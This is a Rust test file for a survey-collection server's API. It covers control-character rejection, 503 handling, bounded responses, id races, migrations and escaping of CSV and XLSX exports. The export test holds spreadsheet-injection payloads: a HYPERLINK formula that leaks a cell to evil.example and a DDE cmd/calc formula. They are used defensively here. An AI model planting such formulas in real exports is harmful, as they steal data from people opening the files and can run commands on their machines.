//! What one bad item, a failing database or a race can do to the collector API: only that
//! item is rejected, the database's troubles are `503`, answers stay small, an id never gets
//! two enterprises — on SQLite and on PostgreSQL.
#![allow(clippy::unwrap_used)]

mod support;

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Method, StatusCode};
use pq_core::sync::Role;
use pq_server::storage::Dialect;
use pq_server::sync::{MAX_ERRORS_PER_ITEM, MIN_ANSWER_BUDGET};
use serde_json::{Value, json};
use support::{Backend, OTHER_TAX_CODE, TAX_CODE, TestServer, answers, submission, uuid};

on_both_backends!(
    a_nul_in_one_item_rejects_that_item_only,
    a_record_the_database_refuses_is_rejected_alone,
    an_unavailable_database_answers_503_with_retry_after,
    urls_holding_what_no_database_can_answer_400,
    at_most_twenty_errors_per_item_are_listed,
    a_batch_of_bad_items_answers_within_its_budget,
    two_enterprises_racing_for_a_new_id_never_both_hold_it,
    updated_at_ahead_of_the_server_clock_is_rejected,
    exported_answers_never_run_as_spreadsheet_formulas,
    the_holder_of_an_id_follows_its_newest_revision,
    upgrading_a_database_records_who_holds_each_id,
    half_an_emoji_in_one_item_does_not_make_the_batch_unreadable,
);

fn errors_of(answer: &support::Answer, index: usize) -> Vec<Value> {
    answer.json()["results"][index]["errors"]
        .as_array()
        .unwrap()
        .clone()
}

/// The issue's poison item: a NUL in `answers.tax_code` made the whole batch fail on every
/// retry. Now it (and NULs elsewhere) only rejects its own item.
async fn a_nul_in_one_item_rejects_that_item_only(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Surveyor, None).await;
    let mut in_tax_code = answers(TAX_CODE, 3);
    in_tax_code["tax_code"] = json!(format!("{TAX_CODE}\u{0}"));
    let mut in_name = submission(&uuid(2), 1, answers(TAX_CODE, 4));
    in_name["answers"]["enterprise_name"] = json!("Công ty\u{0} Đồng Tiến");
    in_name["locale"] = json!("en");
    let mut in_product = submission(&uuid(3), 1, answers(TAX_CODE, 4));
    in_product["answers"]["products"][1]["product"] = json!("Ng\u{1b}ói");
    let mut in_device = submission(&uuid(4), 1, answers(TAX_CODE, 4));
    in_device["device_id"] = json!("tablet\u{0}07");
    let mut in_form = submission(&uuid(5), 1, answers(TAX_CODE, 4));
    in_form["form_id"] = json!("enterprise\u{0}");
    let mut in_id = submission(&uuid(7), 1, answers(TAX_CODE, 4));
    in_id["id"] = json!(format!("{}\u{0}", uuid(7)));
    let mut fine_with_lines = answers(OTHER_TAX_CODE, 6);
    fine_with_lines["enterprise_name"] = json!("Hợp tác xã\tGốm sứ\r\nPhù Lãng");
    let batch = [
        submission(&uuid(0), 1, answers(TAX_CODE, 2)),
        submission(&uuid(1), 1, in_tax_code),
        in_name,
        in_product,
        in_device,
        in_form,
        in_id,
        submission(&uuid(6), 1, fine_with_lines),
    ];
    for attempt in 0..2 {
        let answer = server.send(&token, &batch).await;
        assert_eq!(
            answer.status,
            StatusCode::OK,
            "{}",
            String::from_utf8_lossy(&answer.bytes)
        );
        let stored_status = if attempt == 0 {
            "accepted"
        } else {
            "duplicate"
        };
        assert_eq!(
            answer.statuses(),
            [
                stored_status,
                "rejected",
                "rejected",
                "rejected",
                "rejected",
                "rejected",
                "rejected",
                stored_status
            ]
        );
        let paths = |i| -> Vec<String> {
            errors_of(&answer, i)
                .iter()
                .map(|e| e["path"].as_str().unwrap().to_owned())
                .collect()
        };
        assert!(paths(1).contains(&"tax_code".to_owned()), "{:?}", paths(1));
        assert_eq!(paths(2), ["enterprise_name"]);
        assert_eq!(
            errors_of(&answer, 2)[0]["message"],
            "The answer holds the control character U+0000 (an invisible character, often \
             pasted from elsewhere), which cannot be stored; remove it and send again."
        );
        assert_eq!(paths(3), ["products[1].product"]);
        assert!(
            errors_of(&answer, 3)[0]["message"]
                .as_str()
                .unwrap()
                .starts_with("Câu trả lời chứa ký tự điều khiển U+001B")
        );
        assert_eq!(errors_of(&answer, 4)[0]["field"], "device_id");
        assert_eq!(
            errors_of(&answer, 4)[0]["message"],
            "Trường 'device_id' chứa ký tự điều khiển U+0000 nên không lưu được."
        );
        assert_eq!(errors_of(&answer, 5)[0]["field"], "form_id");
        assert_eq!(errors_of(&answer, 6)[0]["field"], "id");
        // An id that is no UUID is not echoed.
        assert_eq!(answer.json()["results"][6]["id"], Value::Null);
    }
    let stored = server.db().latest_submissions(None, None).await.unwrap();
    let ids: Vec<&str> = stored.iter().map(|s| s.submission.id.as_str()).collect();
    assert_eq!(ids, [uuid(0), uuid(6)]);
    assert_eq!(
        stored[1].submission.answers["enterprise_name"],
        "Hợp tác xã\tGốm sứ\r\nPhù Lãng"
    );
}

/// A record the engine accepts but the database refuses (here: a check the test adds to the
/// schema) is rejected on its own; the rest of its batch is stored.
async fn a_record_the_database_refuses_is_rejected_alone(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let refuse = match server.db().dialect() {
        Dialect::Postgres => {
            "ALTER TABLE submissions ADD CONSTRAINT no_poison CHECK (body NOT LIKE '%poison%')"
        }
        Dialect::Sqlite => {
            "CREATE TRIGGER no_poison BEFORE INSERT ON submissions WHEN NEW.body LIKE '%poison%'
             BEGIN SELECT RAISE(ABORT, 'poison refused'); END"
        }
    };
    sqlx::query(refuse)
        .execute(server.db().pool())
        .await
        .unwrap();
    let token = server.token(Role::Surveyor, None).await;
    let mut poison = answers(TAX_CODE, 3);
    poison["enterprise_name"] = json!("poison Ltd");
    let mut english = submission(&uuid(2), 1, poison);
    english["locale"] = json!("en");
    let batch = [
        submission(&uuid(1), 1, answers(TAX_CODE, 2)),
        english,
        submission(&uuid(3), 1, answers(TAX_CODE, 4)),
    ];
    let answer = server.send(&token, &batch).await;
    assert_eq!(
        answer.status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&answer.bytes)
    );
    assert_eq!(answer.statuses(), ["accepted", "rejected", "accepted"]);
    assert_eq!(
        errors_of(&answer, 1),
        [json!({"path": "", "element": "",
                "message": "The server could not store this submission's content; nothing of \
                            it was stored. Please tell the administrator."})]
    );
    for (n, count) in [(1, 1), (2, 0), (3, 1)] {
        assert_eq!(server.db().revision_count(&uuid(n)).await.unwrap(), count);
    }
}

/// A database that cannot be reached is the server's problem for now: `503` with
/// `Retry-After`, never a `500` that a device resends unchanged forever.
async fn an_unavailable_database_answers_503_with_retry_after(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Admin, None).await;
    server.db().pool().close().await;
    let batch = server
        .send(&token, &[submission(&uuid(1), 1, answers(TAX_CODE, 2))])
        .await;
    let forms = server.get("/api/v1/forms", &token).await;
    for answer in [batch, forms] {
        assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(answer.header("retry-after"), Some("30"));
        let error = answer.json()["error"].as_str().unwrap().to_owned();
        assert!(error.contains("database is unavailable"), "{error}");
    }
    let page = server
        .request(
            Method::GET,
            "/admin?lang=en",
            &[("authorization", &format!("Bearer {token}"))],
            Body::empty(),
        )
        .await;
    assert_eq!(page.status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(page.header("retry-after"), Some("30"));
}

async fn urls_holding_what_no_database_can_answer_400(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let admin = server.token(Role::Admin, None).await;
    for path in [
        "/api/v1/submissions/%00abc",
        "/api/v1/forms/enterprise%00",
        "/api/v1/forms/enterprise/versions/1%00",
        "/api/v1/submissions?form_id=%00",
        "/api/v1/exports/enterprise%00.csv",
        "/api/v1/indicators?district=%1b",
        "/api/v1/forms/%C3%28",
        "/admin/submissions/%00?lang=en",
    ] {
        let answer = server.get(path, &admin).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{path}");
        let error = answer.json()["error"].as_str().unwrap().to_owned();
        assert!(error.starts_with("the URL holds"), "{path}: {error}");
    }
    // Ordinary escapes still work.
    let vietnamese = server
        .get("/api/v1/indicators?district=T%E1%BB%AB%20S%C6%A1n", &admin)
        .await;
    assert_eq!(vietnamese.status, StatusCode::OK);
}

async fn at_most_twenty_errors_per_item_are_listed(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Surveyor, None).await;
    // 50 product entries without a name and with a negative output: 100 errors.
    let mut many = answers(TAX_CODE, 1);
    many["products"] = json!(vec![json!({"output": -1}); 50]);
    let mut english = submission(&uuid(1), 1, many.clone());
    english["locale"] = json!("en");
    let answer = server
        .send(&token, &[english, submission(&uuid(2), 1, many)])
        .await;
    assert_eq!(answer.statuses(), ["rejected", "rejected"]);
    for (index, message) in [
        (
            0,
            "… and 80 more error(s), not listed: fix the ones above first.",
        ),
        (
            1,
            "… và 80 lỗi khác không được liệt kê: hãy sửa các lỗi trên trước.",
        ),
    ] {
        let errors = errors_of(&answer, index);
        assert_eq!(errors.len(), MAX_ERRORS_PER_ITEM + 1);
        assert_eq!(errors[0]["path"], "products[0].product");
        assert_eq!(errors[19]["path"], "products[9].output");
        assert_eq!(errors[20]["message"], message);
    }
}

/// A form whose messages are long, and a batch of items answering none of it: unbounded, the
/// answer would be ~30 MB for a ~150 kB request.
fn long_messages_form() -> Value {
    let text = "Câu hỏi này bắt buộc. ".repeat(120);
    let elements: Vec<Value> = (0..30)
        .map(|n| {
            json!({"type": "text", "name": format!("q{n}"), "isRequired": true,
                   "requiredErrorText": text})
        })
        .collect();
    json!({"id": "long", "version": 1, "pages": [{"name": "p", "elements": elements}]})
}

async fn a_batch_of_bad_items_answers_within_its_budget(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    pq_server::forms::publish(server.db(), &long_messages_form().to_string())
        .await
        .unwrap();
    let token = server.token(Role::Surveyor, None).await;
    let items: Vec<Value> = (0..500_u32)
        .map(|n| {
            let mut item = submission(
                &format!("{n:08x}-0000-4000-8000-000000000000"),
                1,
                json!({}),
            );
            item["form_id"] = json!("long");
            item
        })
        .collect();
    let request = json!({ "submissions": items }).to_string();
    let answer = server.post_raw(&token, request.clone()).await;
    assert_eq!(answer.status, StatusCode::OK);
    let budget = request.len().max(MIN_ANSWER_BUDGET);
    assert!(
        answer.bytes.len() <= budget,
        "answer of {} bytes for a request of {}",
        answer.bytes.len(),
        request.len()
    );
    assert_eq!(answer.statuses(), vec!["rejected"; 500]);
    for index in [0, 250, 499] {
        let errors = errors_of(&answer, index);
        assert!(errors.len() <= MAX_ERRORS_PER_ITEM + 1);
        assert!(
            errors[0]["message"]
                .as_str()
                .unwrap()
                .starts_with("Câu hỏi này bắt buộc.")
        );
        let last = errors.last().unwrap()["message"]
            .as_str()
            .unwrap()
            .to_owned();
        let left_out: usize = last.split(' ').find_map(|word| word.parse().ok()).unwrap();
        assert_eq!(left_out + errors.len() - 1, 30, "{last}");
    }

    // The enterprise form's many product errors, in a batch of MBs: each item lists 20
    // and counts the rest; the answer is smaller than the request.
    let mut bad = answers(TAX_CODE, -1);
    bad["products"] = json!(vec![json!({"output": -1}); 1_500]);
    let items: Vec<Value> = (0..120_u32)
        .map(|n| {
            submission(
                &format!("{n:08x}-1111-4000-8000-000000000000"),
                1,
                bad.clone(),
            )
        })
        .collect();
    let request = json!({ "submissions": items }).to_string();
    assert!(request.len() > 2_000_000, "{}", request.len());
    let answer = server.post_raw(&token, request.clone()).await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(answer.bytes.len() <= request.len().max(MIN_ANSWER_BUDGET));
    let results = answer.json()["results"].as_array().unwrap().clone();
    assert_eq!(results.len(), 120);
    for result in &results {
        assert_eq!(
            result["errors"].as_array().unwrap().len(),
            MAX_ERRORS_PER_ITEM + 1
        );
    }
}

/// The issue's race: two enterprises send the same new id at the same moment (one as
/// revision 1, the other as revision 2 or also 1). Sixty tries; never two holders, and the
/// one stored reads its record back.
async fn two_enterprises_racing_for_a_new_id_never_both_hold_it(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let server = Arc::new(server);
    let first = server.token(Role::Enterprise, Some(TAX_CODE)).await;
    let second = server.token(Role::Enterprise, Some(OTHER_TAX_CODE)).await;
    for attempt in 0..60_u32 {
        let id = format!("{attempt:08x}-2222-4000-8000-000000000000");
        let other_revision = if attempt % 3 == 0 { 1 } else { 2 };
        let barrier = Arc::new(tokio::sync::Barrier::new(2));
        let sends = [
            (first.clone(), submission(&id, 1, answers(TAX_CODE, 1))),
            (
                second.clone(),
                submission(&id, other_revision, answers(OTHER_TAX_CODE, 2)),
            ),
        ]
        .map(|(token, item)| {
            let server = server.clone();
            let barrier = barrier.clone();
            tokio::spawn(async move {
                barrier.wait().await;
                server.send(&token, &[item]).await
            })
        });
        let mut statuses = Vec::new();
        for send in sends {
            let answer = send.await.unwrap();
            assert_eq!(answer.status, StatusCode::OK);
            statuses.extend(answer.statuses());
        }
        let stored = server.db().stored_revisions(&[id.as_str()]).await.unwrap();
        let holders: std::collections::BTreeSet<Option<String>> = stored[&id]
            .iter()
            .map(|revision| revision.tax_code.clone())
            .collect();
        assert_eq!(holders.len(), 1, "try {attempt}: {holders:?} {statuses:?}");
        let accepted = statuses.iter().filter(|s| *s == "accepted").count();
        assert_eq!(accepted, 1, "try {attempt}: {statuses:?}");
        assert!(statuses.contains(&"rejected".to_owned()), "{statuses:?}");
        // The holder reads its record; the other is told it does not exist.
        let holder_token = if holders.contains(&Some(TAX_CODE.to_owned())) {
            (&first, &second)
        } else {
            (&second, &first)
        };
        let path = format!("/api/v1/submissions/{id}");
        assert_eq!(
            server.get(&path, holder_token.0).await.status,
            StatusCode::OK
        );
        assert_eq!(
            server.get(&path, holder_token.1).await.status,
            StatusCode::NOT_FOUND
        );
    }
}

async fn updated_at_ahead_of_the_server_clock_is_rejected(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Surveyor, None).await;
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let stamp = |seconds: u64| {
        let days = i64::try_from(seconds / 86_400).unwrap();
        let date = pq_core::expression::Date::from_days_since_epoch(days).unwrap();
        let in_day = seconds % 86_400;
        format!(
            "{date}T{:02}:{:02}:{:02}Z",
            in_day / 3600,
            in_day / 60 % 60,
            in_day % 60
        )
    };
    let mut tomorrow = submission(&uuid(1), 1, answers(TAX_CODE, 1));
    tomorrow["updated_at"] = json!(stamp(now + 25 * 3600));
    tomorrow["locale"] = json!("en");
    let mut next_year = submission(&uuid(2), 1, answers(TAX_CODE, 1));
    next_year["updated_at"] = json!(stamp(now + 365 * 86_400));
    let mut nearly = submission(&uuid(3), 1, answers(TAX_CODE, 1));
    // A tablet a few hours ahead (a wrong time zone) is still accepted.
    nearly["updated_at"] = json!(stamp(now + 20 * 3600));
    let answer = server.send(&token, &[tomorrow, next_year, nearly]).await;
    assert_eq!(answer.statuses(), ["rejected", "rejected", "accepted"]);
    assert_eq!(
        errors_of(&answer, 0),
        [json!({"field": "updated_at", "path": "", "element": "",
                "message": "The field 'updated_at' is more than a day ahead of the server's \
                            clock: the device's date or time is wrong. Set the device's clock \
                            right, then edit and send the record again."})]
    );
    let vietnamese = errors_of(&answer, 1)[0]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(vietnamese.contains("đồng hồ"), "{vietnamese}");
    assert_eq!(server.db().revision_count(&uuid(1)).await.unwrap(), 0);
}

/// CSV cells a spreadsheet would run as a formula (answers and `device_id` starting with `=`,
/// `+`, `-`, `@`, tab or carriage return) come out with a leading apostrophe; the workbook
/// keeps them as text cells, unchanged.
async fn exported_answers_never_run_as_spreadsheet_formulas(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let surveyor = server.token(Role::Surveyor, None).await;
    let admin = server.token(Role::Admin, None).await;
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r\n=1+1",
    ];
    let items: Vec<Value> = payloads
        .iter()
        .enumerate()
        .map(|(n, payload)| {
            let mut item = answers(TAX_CODE, 7);
            item["enterprise_name"] = json!(payload);
            item["products"] = json!([{"product": payload, "output": 3}]);
            let mut item = submission(&uuid(u8::try_from(n).unwrap()), 1, item);
            item["device_id"] = json!(payload);
            item
        })
        .collect();
    let sent = server.send(&surveyor, &items).await;
    assert_eq!(sent.statuses(), vec!["accepted"; payloads.len()]);

    let csv = server.get("/api/v1/exports/enterprise.csv", &admin).await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(&csv.bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), payloads.len());
    for (row, payload) in rows.iter().zip(payloads) {
        let expected = format!("'{payload}");
        assert_eq!(&row[column("enterprise_name")], expected);
        assert_eq!(&row[column("device_id")], expected);
        // Numbers are numbers, unchanged.
        assert_eq!(&row[column("employees")], "7");
    }
    let products = server
        .get("/api/v1/exports/enterprise.products.csv", &admin)
        .await;
    let mut reader = csv::Reader::from_reader(&products.bytes[3..]);
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[2].to_owned()).collect();
    let expected: Vec<String> = payloads.iter().map(|p| format!("'{p}")).collect();
    assert_eq!(names, expected);

    use calamine::{Data, Reader, Xlsx};
    let xlsx = server.get("/api/v1/exports/enterprise.xlsx", &admin).await;
    let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx.bytes.clone())).unwrap();
    let sheet = workbook.worksheet_range("enterprise").unwrap();
    let formulas = workbook.worksheet_formula("enterprise").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the workbook"
    );
    let header = |name: &str| {
        (0..sheet.width())
            .find(|&c| sheet.get((0, c)) == Some(&Data::String(name.into())))
            .unwrap()
    };
    for (n, payload) in payloads.iter().enumerate() {
        for name in ["enterprise_name", "device_id"] {
            assert_eq!(
                sheet.get((n + 1, header(name))),
                Some(&Data::String((*payload).to_owned())),
                "{name}"
            );
        }
    }
}

fn revision_of<'a>(
    item: &'a pq_core::sync::Submission,
    tax_code: &'a str,
    only_for: Option<&'a str>,
) -> pq_server::storage::NewRevision<'a> {
    pq_server::storage::NewRevision {
        submission: item,
        tax_code: Some(tax_code),
        token_id: "t",
        received_at: "2025-06-01T09:00:00.000Z",
        only_for_tax_code: only_for,
    }
}

/// A surveyor may move a record to another tax code (a corrected typo); from then on it is
/// that enterprise's, also when both revisions are stored in one call.
async fn the_holder_of_an_id_follows_its_newest_revision(backend: Backend) {
    use pq_core::sync::Submission;
    use pq_server::storage::Inserted;
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let read =
        |revision, tax| Submission::read(&submission(&uuid(1), revision, answers(tax, 1))).unwrap();
    let (first, second, third) = (
        read(1, TAX_CODE),
        read(2, OTHER_TAX_CODE),
        read(3, TAX_CODE),
    );
    let stored = server
        .db()
        .insert_submissions(&[
            revision_of(&first, TAX_CODE, None),
            revision_of(&second, OTHER_TAX_CODE, None),
        ])
        .await
        .unwrap();
    assert_eq!(stored, [Inserted::Stored, Inserted::Stored]);
    let mine = server
        .db()
        .insert_submissions(&[revision_of(&third, TAX_CODE, Some(TAX_CODE))])
        .await
        .unwrap();
    assert_eq!(mine, [Inserted::HeldByOther]);
    let third_other = read(3, OTHER_TAX_CODE);
    let theirs = server
        .db()
        .insert_submissions(&[revision_of(
            &third_other,
            OTHER_TAX_CODE,
            Some(OTHER_TAX_CODE),
        )])
        .await
        .unwrap();
    assert_eq!(theirs, [Inserted::Stored]);
    assert_eq!(server.db().revision_count(&uuid(1)).await.unwrap(), 3);
}

/// A database made before ids had holders gets one row per id, from its newest revision.
async fn upgrading_a_database_records_who_holds_each_id(backend: Backend) {
    use pq_core::sync::Submission;
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Surveyor, None).await;
    let sent = server
        .send(
            &token,
            &[
                submission(&uuid(1), 1, answers(TAX_CODE, 1)),
                submission(&uuid(1), 2, answers(OTHER_TAX_CODE, 1)),
                submission(&uuid(2), 1, answers(TAX_CODE, 1)),
            ],
        )
        .await;
    assert_eq!(sent.statuses(), ["accepted", "revised", "accepted"]);
    // Back to schema version 1, as an older server left it.
    for statement in [
        "DROP TABLE submission_holders",
        "DROP TABLE admin_sessions",
        "DELETE FROM schema_migrations WHERE version > 1",
    ] {
        sqlx::query(statement)
            .execute(server.db().pool())
            .await
            .unwrap();
    }
    let upgraded = server.database.open().await;
    assert_eq!(
        upgraded.schema_version().await.unwrap(),
        pq_server::storage::latest_version()
    );
    let mut rows: Vec<(String, Option<String>, i64)> =
        sqlx::query_as("SELECT id, tax_code, revision FROM submission_holders ORDER BY id")
            .fetch_all(upgraded.pool())
            .await
            .unwrap();
    rows.sort();
    assert_eq!(
        rows,
        [
            (uuid(1), Some(OTHER_TAX_CODE.to_owned()), 2),
            (uuid(2), Some(TAX_CODE.to_owned()), 1)
        ]
    );
    // And the upgraded database keeps enterprises to their ids.
    let item = Submission::read(&submission(&uuid(1), 3, answers(TAX_CODE, 2))).unwrap();
    let refused = upgraded
        .insert_submissions(&[revision_of(&item, TAX_CODE, Some(TAX_CODE))])
        .await
        .unwrap();
    assert_eq!(refused, [pq_server::storage::Inserted::HeldByOther]);
}

/// `JSON.stringify` writes half an emoji as an unpaired surrogate escape (`\ud83d`), which is
/// no UTF-8 text: that item's character is read as U+FFFD, the batch is answered 200, and a
/// resend is a duplicate.
async fn half_an_emoji_in_one_item_does_not_make_the_batch_unreadable(backend: Backend) {
    let Some(server) = TestServer::start(backend).await else {
        return;
    };
    let token = server.token(Role::Surveyor, None).await;
    let mut broken = submission(&uuid(2), 1, answers(TAX_CODE, 3));
    broken["answers"]["enterprise_name"] = json!("Công ty HALF");
    let body = json!({"submissions": [submission(&uuid(1), 1, answers(TAX_CODE, 2)), broken]})
        .to_string()
        .replace("HALF", "\\ud83d");
    assert!(body.contains(r"Công ty \ud83d"), "{body}");
    for expected in ["accepted", "duplicate"] {
        let answer = server.post_raw(&token, body.clone()).await;
        assert_eq!(
            answer.status,
            StatusCode::OK,
            "{}",
            String::from_utf8_lossy(&answer.bytes)
        );
        assert_eq!(answer.statuses(), [expected, expected]);
    }
    let stored = server
        .db()
        .latest_submission(&uuid(2))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        stored.submission.answers["enterprise_name"],
        "Công ty \u{fffd}"
    );
}
